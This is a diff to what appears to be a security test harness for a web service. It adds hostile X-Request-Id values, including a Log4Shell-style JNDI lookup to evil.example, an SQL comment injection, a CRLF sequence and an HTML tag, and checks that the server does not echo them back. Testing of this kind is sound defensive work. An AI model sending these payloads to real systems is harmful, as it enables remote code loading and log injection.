@@ -105,6 +105,20 @@ export async function attack(target) {
     );
   }
 
+  const ids = [
+    '<b>',
+    'a b',
+    'a'.repeat(129),
+    '"',
+    "';--",
+    'lan@reader.example',
+    '${jndi:ldap://evil.example}',
+    '%0d%0a',
+  ];
+  const named = await Promise.all(ids.map((id) => target.open('/healthz', { headers: { 'x-request-id': id } })));
+  const areOwn = named.every(({ headers }, index) => headers.get('x-request-id') !== ids[index]);
+  attacks.push(attackOf('ids of requests', 'X-Request-Id with what logs should not hold', named, areOwn));
+
   const absolute = await Promise.all(
     [
       'http://evil.example/healthz',
